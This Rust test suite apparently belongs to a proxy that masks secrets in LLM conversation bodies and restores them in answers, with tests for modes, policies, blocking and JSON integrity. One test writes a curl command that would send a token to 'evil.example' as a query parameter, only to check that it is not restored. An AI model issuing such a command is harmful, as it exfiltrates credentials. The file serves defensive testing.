//! Bodies in a conversation: what is sent again, what each kind's mode says, what comes back.

use std::sync::Arc;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::properties::text;
use super::{expand, redactor};
use crate::model::Secret;
use crate::secrets::{
    BodyError, Channel, Conversation, Known, Masked, Mode, Policy, Redactor, Restore, Sink, Source, members,
};

use super::bodies::{NOW, conversation, masked, token, word};

#[test]
fn history_that_is_sent_again_costs_nothing() {
    let conversation = conversation();
    let code = "fn main() { let x = 1; }\n".repeat(400);
    let mut messages = vec![json!({"role": "user", "content": format!("{code} token {}", token())})];
    let send = |messages: &[Value]| {
        let before = conversation.looked();
        let body =
            json!({"model": "m", "tools": [{"name": "t", "input_schema": {"type": "object"}}], "messages": messages});
        let body = body.to_string();
        let out = conversation.body(body.as_bytes(), NOW).unwrap();
        assert!(out.body.contains(&word()));
        conversation.looked() - before
    };
    assert!(send(&messages) >= 10_000);
    assert_eq!(send(&messages), 0);
    messages.push(json!({"role": "assistant", "content": [{"type": "tool_use", "id": "1", "input": {"path": "src"}}]}));
    messages.push(json!({"role": "user", "content": "one more sentence"}));
    let new = send(&messages);
    assert!((17..100).contains(&new), "{new}");
    // What is learned since may be in what was looked at before.
    conversation.redactor().learn(Secret::new("main() { let x".to_owned()));
    assert!(send(&messages) >= 10_000);
}

#[test]
fn a_verdict_on_one_place_is_none_on_another() {
    let conversation = conversation();
    let secret = token();
    let escaped = format!("\\u0067{}", &secret[1..]);
    // As a signature it is not looked at for this, as text it is masked all the same.
    let body = format!(r#"{{"messages":[{{"content":[{{"type":"thinking","signature":"{escaped}"}}]}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().body, body);
    // A doubtful one may be an id.
    let doubtful = ["password = '", "sunny-day7", "'"].concat();
    let body = format!(r#"{{"messages":[{{"tool_call_id":"{doubtful}"}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().body, body);
    let body = body.replace("tool_call_id", "content");
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().hits.len(), 1);
    let body = format!(r#"{{"messages":[{{"content":"{escaped}"}}]}}"#);
    assert_eq!(conversation.body(body.as_bytes(), NOW).unwrap().hits.len(), 1);
}

#[test]
fn what_was_read_tells_its_members_unless_it_was_changed_or_is_no_object() {
    let told = |body: &str| conversation().body(body.as_bytes(), NOW).unwrap().members;
    let plain = [
        r#" { "model" : "m", "a\u0062c\"" : [ 1, { "model": [] } ], "n": -1.5e3,"t":{}, "model":"again" } "#,
        r#"{"messages":[{"role":"user","content":"a \" b"}],"stream":true,"x":null}"#,
        "{}",
    ];
    for body in plain {
        assert_eq!(told(body), members(body, 0), "{body}");
        assert!(told(body).is_some());
    }
    for body in ["[]", "[{\"a\":1}]", "5"] {
        assert_eq!(told(body), None, "{body}");
    }
    // What was masked moves what stands behind it.
    let (long, short) = (token(), format!("{}{}", token(), token()));
    let body = format!(
        r#"{{"a":1,"system":"use {long} ","n":[2,"{long}"],"messages":[{{"content":"{short} {long}"}}],"z":{{}}}}"#
    );
    let conversation = conversation();
    let masked = conversation.body(body.as_bytes(), NOW).unwrap();
    assert!(masked.hits.len() >= 3 && masked.body != body);
    assert_eq!(masked.members, members(&masked.body, 0));
    let named = format!(r#"{{"x":{{"{long}":"{long}"}},"{long}":1,"y":2}}"#);
    let masked = conversation.body(named.as_bytes(), NOW).unwrap();
    assert!(masked.members.is_none_or(|told| Some(told) == members(&masked.body, 0)), "{}", masked.body);
}

#[test]
fn modes_decide_about_bodies_too() {
    let body = format!(r#"{{"system":"use {}"}}"#, token());
    let with = |mode| {
        let conversation = Conversation::new(Arc::new(Redactor::new(mode, Vec::new(), [3; 8])), Restore::Tools);
        let masked = conversation.body(body.as_bytes(), NOW);
        masked.map(|Masked { body: out, hits, .. }| (out == body, hits.len(), hits.iter().any(|h| h.masked)))
    };
    assert_eq!(with(Mode::Off), Ok((true, 0, false)));
    assert_eq!(with(Mode::Warn), Ok((true, 1, false)));
    assert_eq!(with(Mode::Redact), Ok((false, 1, true)));
    let refused = with(Mode::Block).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "the request holds a GitHub token in /system and redact.mode is \"block\" for that",
        "kinds and places, no values"
    );
}

/// A body with a token of GitHub's in one place and one of npm's in another, by this policy.
fn by(policy: Policy) -> (Conversation, String, [String; 2]) {
    let (npm, _) = expand("npm_‹a36›", 6);
    let body = format!(r#"{{"system":"use {}","messages":[{{"content":"and \n {npm}"}}]}}"#, token());
    let conversation = Conversation::new(Arc::new(Redactor::with(policy, Vec::new(), [3; 8])), Restore::Tools);
    (conversation, body, [token(), npm])
}

#[test]
fn each_kind_has_its_own_mode_in_a_body() {
    let kinds = |mode| [("npm".to_owned(), mode)].into();
    let left = |policy: Policy| {
        let (conversation, body, secrets) = by(policy);
        let out = conversation.body(body.as_bytes(), NOW).unwrap();
        let text = out.body.into_owned();
        let masked: Vec<bool> = out.hits.iter().map(|h| h.masked).collect();
        let kept = conversation.vault().map_or(0, crate::secrets::Vault::len);
        assert_eq!(kept, masked.iter().filter(|m| **m).count(), "what was sent needs no giving back");
        (secrets.map(|s| text.contains(&s)), masked)
    };
    let floor = |mode| Policy { floor: Mode::Redact, ..Policy::all(mode) };
    for mode in [Mode::Off, Mode::Warn] {
        assert_eq!(left(floor(mode)), ([false, false], vec![true, true]), "a repository's floor holds under {mode:?}");
    }
    let only = Policy { kinds: kinds(Mode::Redact), ..Policy::all(Mode::Off) };
    assert_eq!(left(only), ([true, false], vec![true]));
    let warned = Policy { kinds: kinds(Mode::Warn), ..Policy::all(Mode::Redact) };
    assert_eq!(left(warned), ([false, true], vec![true, false]));
    let off = Policy { kinds: kinds(Mode::Off), ..Policy::all(Mode::Redact) };
    assert_eq!(left(off), ([false, true], vec![true]));
}

#[test]
fn a_body_with_a_kind_that_blocks_is_refused() {
    let policy = Policy { kinds: [("npm".to_owned(), Mode::Block)].into(), ..Policy::all(Mode::Warn) };
    let (conversation, body, _) = by(policy);
    let BodyError::Blocked(blocked) = conversation.body(body.as_bytes(), NOW).unwrap_err() else {
        panic!("not blocked")
    };
    let places: Vec<_> = blocked.iter().map(|b| (b.place.as_str(), b.hit.kind)).collect();
    assert_eq!(places, [("/messages/0/content", "npm token")]);
    assert_eq!(conversation.vault().map(crate::secrets::Vault::len), Some(0), "nothing of it was sent");
}

#[test]
fn a_mark_on_the_line_lets_nothing_out() {
    let body = format!(r#"{{"system":"a = '{}' # monster:allow"}}"#, token());
    let (out, places) = masked(&body);
    assert!(!out.contains(&token()) && places == ["/system"], "{out}");
}

#[test]
fn a_verdict_from_before_something_was_learned_is_not_kept() {
    let conversation = conversation();
    let text = "see winter-holiday-plans";
    let age = conversation.age();
    conversation.redactor().learn(Secret::new("winter-holiday-plans".to_owned()));
    conversation.cleared(age, 1, text);
    assert!(!conversation.clean(1, text));
    conversation.cleared(conversation.age(), 1, "see nothing");
    assert!(conversation.clean(1, "see nothing"));
}

#[test]
fn an_answer_gets_back_what_the_request_held() {
    let conversation = Conversation::new(Arc::new(redactor()), Restore::Tools);
    let word = word();
    let body = json!({"messages": [
        {"content": [{"type": "text", "text": format!("curl https://api.example.com/?k={}", token())}], "role": "user"},
    ]});
    conversation.body(body.to_string().as_bytes(), NOW).unwrap();
    let restore = |sink, source, text: &str| {
        let mut restorer = conversation.restorer(Channel { sink, source, tool: "Bash" }, NOW).unwrap();
        let mut out = restorer.feed(text.as_bytes()).forward();
        out.extend(restorer.finish().0.forward());
        String::from_utf8(out).unwrap()
    };
    assert_eq!(restore(Sink::ClientText, Source::Plain, &format!("`{word}`")), format!("`{}`", token()));
    let call = |host: &str| json!({"command": format!("curl https://{host}/?k={word}")}).to_string();
    let same = call("api.example.com");
    assert_eq!(restore(Sink::ToolArguments, Source::Json, &same), same.replace(&word, &token()));
    assert_eq!(restore(Sink::ToolArguments, Source::Json, &call("evil.example")), call("evil.example"));
    // A password with a quote in it comes back with it, as deep as it lies.
    let odd = json!({"password": "a\"b\\c-4711-xyZ"});
    let body_of = |a: &Value| json!({"input": [{"type": "function_call", "arguments": a.to_string()}]}).to_string();
    let sent = body_of(&odd);
    let sent = conversation.body(sent.as_bytes(), NOW).unwrap();
    let sent: Value = serde_json::from_str(&sent.body).unwrap();
    let arguments = sent["input"][0]["arguments"].as_str().unwrap();
    assert!(arguments.contains("MSEC_") && !arguments.contains("4711"));
    assert_eq!(restore(Sink::ToolArguments, Source::Json, arguments), odd.to_string());
    // The same text from a tool teaches no host, and with restoring off nothing is kept.
    let other = Conversation::new(Arc::new(redactor()), Restore::Tools);
    let body = body.to_string().replace("\"user\"", "\"tool\"");
    other.body(body.as_bytes(), NOW).unwrap();
    let mut restorer =
        other.restorer(Channel { sink: Sink::ToolArguments, source: Source::Json, tool: "Bash" }, NOW).unwrap();
    assert!(restorer.feed(same.as_bytes()).forward().len() < same.len());
    assert_eq!(restorer.finish().1.len(), 1);
    let off = Conversation::new(Arc::new(redactor()), Restore::Off);
    off.body(body.as_bytes(), NOW).unwrap();
    assert!(off.vault().is_none());
}

fn value() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        text().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        Just(Value::Null),
        text().prop_map(|t| Value::from(json!({ "password": t }).to_string())),
    ];
    let key = prop::sample::select(vec![
        "messages",
        "content",
        "text",
        "role",
        "input",
        "arguments",
        "tool_calls",
        "function",
        "parts",
        "contents",
        "source",
        "data",
        "image_url",
        "url",
        "thinking",
        "signature",
        "password",
        "api_key",
        "x",
        "system",
        "output",
        "args",
    ]);
    leaf.prop_recursive(6, 40, 5, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::vec((key.clone(), inner), 0..5)
                .prop_map(|pairs| pairs.into_iter().map(|(k, v)| (k.to_owned(), v)).collect::<Value>()),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn json_stays_json_and_keeps_its_shape(value in value(), pretty in any::<bool>()) {
        let body = if pretty { serde_json::to_string_pretty(&value).unwrap() } else { value.to_string() };
        let conversation = conversation();
        match conversation.body(body.as_bytes(), NOW) {
            Err(BodyError::Sealed { .. }) => {}
            Err(error) => prop_assert!(false, "{}", error),
            Ok(out) => {
                let again: Value = serde_json::from_str(&out.body).unwrap();
                prop_assert_eq!(again.is_object(), value.is_object());
                if out.hits.iter().all(|h| !h.masked) {
                    prop_assert_eq!(&out.body, &body);
                }
                // What lies before the first hit and behind the last is as it was.
                let first = out.hits.iter().map(|h| h.hit.start).min().unwrap_or(body.len());
                let last = out.hits.iter().map(|h| h.hit.end).max().unwrap_or(0);
                prop_assert!(out.body.starts_with(&body[..first]));
                prop_assert!(out.body.ends_with(&body[last..]));
            }
        }
    }

    #[test]
    fn a_known_value_leaves_in_no_string(value in value(), at in any::<prop::sample::Index>()) {
        let secret = "kq7Zp2Vx9-Lm4Tn8Rw3";
        let body = value.to_string();
        let quotes: Vec<usize> = body.match_indices('"').map(|(at, _)| at).collect();
        prop_assume!(!quotes.is_empty());
        let place = quotes[at.index(quotes.len())];
        let mut planted = body;
        planted.insert_str(place + 1, secret);
        prop_assume!(serde_json::from_str::<Value>(&planted).is_ok());
        let redactor = Redactor::new(Mode::Redact, vec![Known::new("k", Secret::new(secret.to_owned()))], [3; 8]);
        let conversation = Conversation::new(Arc::new(redactor), Restore::Off);
        if let Ok(out) = conversation.body(planted.as_bytes(), NOW) {
            let out = out.body.into_owned();
            prop_assert!(!out.contains(secret), "{}", out);
        }
    }

    #[test]
    fn any_bytes_are_survived(bytes in prop::collection::vec(prop_oneof![any::<u8>(), prop::sample::select(b"{}[]\",:\\u0".to_vec())], 0..300)) {
        let conversation = conversation();
        let valid = serde_json::from_slice::<Value>(&bytes).is_ok();
        let read = conversation.body(&bytes, NOW).is_ok();
        prop_assert!(read || !valid);
    }
}
